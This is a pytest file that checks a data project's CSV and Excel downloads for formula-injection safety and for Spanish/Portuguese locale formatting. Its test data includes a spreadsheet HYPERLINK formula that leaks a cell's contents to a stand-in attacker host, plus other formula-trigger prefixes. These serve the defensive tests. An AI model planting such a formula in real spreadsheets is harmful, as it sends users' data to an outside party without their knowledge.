"""Downloads keep text as text (no formula runs when a file is opened) and open right in
Excel for es/pt readers (BOM, `;`, decimal comma); numbers stay numbers."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from mirador import exports

REPO = Path(__file__).resolve().parents[2]
BOM = b"\xef\xbb\xbf"

# Names as a hostile or careless source could type them; the last two are harmless.
NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+51 1 311 0300", "-2+3", "@SUM(A1:A9)",
         "\tcmd", "\rcmd", "Defensoría del Pueblo", "Provedoria; Justiça"]
TABLE = pl.DataFrame({
    "name": NAMES,
    "status": pl.Series(["=1+1", "met", "met", "met", "met", "met", "met", "-x"], dtype=pl.Categorical),
    "change_pct": [-12.5, -0.5, 0.0, 3.25, None, float("nan"), 1234.5, -1.0],
    "count": [-3, 0, 1, 2, 3, 4, 5, None],
    "loaded_at": [dt.datetime(2026, 11, 28, 18, 51, tzinfo=dt.timezone.utc)] * 8,
})


def expected_text(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def sheet_rows(raw: bytes, sheet: str):
    workbook = openpyxl.load_workbook(io.BytesIO(raw))
    return [[cell for cell in row] for row in workbook[sheet].iter_rows()]


def text_of(cell) -> str:
    # xlsx stores a carriage return as the escape _x000D_; openpyxl hands the escape back as is
    return cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value


def csv_rows(raw: bytes, delimiter: str) -> list[list[str]]:
    assert raw.startswith(BOM)
    return list(csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"), newline=""), delimiter=delimiter))


# ----------------------------------------------------------------------------- Excel
def test_excel_has_no_formula_cell_and_text_that_could_run_is_prefixed():
    raw = exports.excel_bytes(TABLE, "mart_institutions", "=cite me")
    rows = sheet_rows(raw, "mart_institutions")
    cells = [c for row in rows for c in row] + [c for row in sheet_rows(raw, "cite") for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header, body = [c.value for c in rows[0]], rows[1:]
    names = [row[header.index("name")] for row in body]
    assert [text_of(c) for c in names] == [expected_text(n) for n in NAMES]
    assert all(c.data_type == "s" for c in names)
    statuses = [row[header.index("status")].value for row in body]
    assert statuses[0] == "'=1+1" and statuses[-1] == "'-x" and statuses[1] == "met"
    assert sheet_rows(raw, "cite")[0][0].value == "=cite me"  # the citation is a string cell too


def test_excel_numbers_stay_numbers_and_not_a_number_is_a_blank():
    rows = sheet_rows(exports.excel_bytes(TABLE, "t", "cite"), "t")
    header, body = [c.value for c in rows[0]], rows[1:]
    change = [row[header.index("change_pct")] for row in body]
    assert [c.value for c in change] == [-12.5, -0.5, 0, 3.25, None, None, 1234.5, -1]
    assert {c.data_type for c in change if c.value is not None} == {"n"}  # -12.5 is a number, not "'-12.5"
    assert [row[header.index("count")].value for row in body] == [-3, 0, 1, 2, 3, 4, 5, None]


# ----------------------------------------------------------------------------- CSV
def test_english_csv_uses_comma_and_decimal_point_with_text_neutralised():
    rows = csv_rows(exports.csv_bytes(TABLE, "en"), ",")
    header, body = rows[0], rows[1:]
    assert header == ["name", "status", "change_pct", "count", "loaded_at"]
    assert [r[0] for r in body] == [expected_text(n) for n in NAMES]
    assert [r[2] for r in body] == ["-12.5", "-0.5", "0.0", "3.25", "", "", "1234.5", "-1.0"]
    assert [r[3] for r in body] == ["-3", "0", "1", "2", "3", "4", "5", ""]


@pytest.mark.parametrize("lang", ["es", "pt", "pt-BR"])
def test_spanish_and_portuguese_csv_open_in_excel_with_semicolons_and_decimal_commas(lang):
    raw = exports.csv_bytes(TABLE, lang)
    assert raw.startswith(BOM)  # Excel reads UTF-8 only with it: accents stay right
    rows = csv_rows(raw, ";")
    assert all(len(r) == 5 for r in rows)
    body = rows[1:]
    assert [r[0] for r in body] == [expected_text(n) for n in NAMES]  # 'Provedoria; Justiça' quoted, intact
    assert [r[2] for r in body] == ["-12,5", "-0,5", "0,0", "3,25", "", "", "1234,5", "-1,0"]
    assert [r[3] for r in body] == ["-3", "0", "1", "2", "3", "4", "5", ""]


def test_every_csv_text_cell_is_safe_whatever_it_starts_with():
    hostile = pl.DataFrame({"note": [c + "payload" for c in "=+-@\t\r"] + ["'already", " =space", "a=b"]})
    body = [r[0] for r in csv_rows(exports.csv_bytes(hostile, "en"), ",")[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in body)
    assert body[-3:] == ["'already", " =space", "a=b"]  # nothing else is changed


def test_to_bytes_passes_the_language_to_the_csv():
    assert csv_rows(exports.to_bytes(TABLE, "csv", "t", "cite", lang="es"), ";")[1][2] == "-12,5"
    assert csv_rows(exports.to_bytes(TABLE, "csv", "t", "cite", lang="en"), ",")[1][2] == "-12.5"


# ----------------------------------------------------------------------------- one place
# Downloads still built outside mirador/exports.py; each should call exports.csv_bytes(table, lang).
# Remove a file from this list once it does. A NEW file writing CSV/Excel bytes itself fails here.
NOT_YET_SWITCHED: set[str] = set()


def test_no_new_download_builds_its_own_csv_or_excel_bytes():
    pattern = re.compile(r"\.write_csv\(|\.write_excel\(|xlsxwriter\.Workbook\(")
    writers = {str(path.relative_to(REPO)) for folder in ("pages", "mirador") for path in (REPO / folder).rglob("*.py")
               if pattern.search(path.read_text(encoding="utf-8"))}
    assert writers - NOT_YET_SWITCHED - {"mirador/exports.py"} == set()
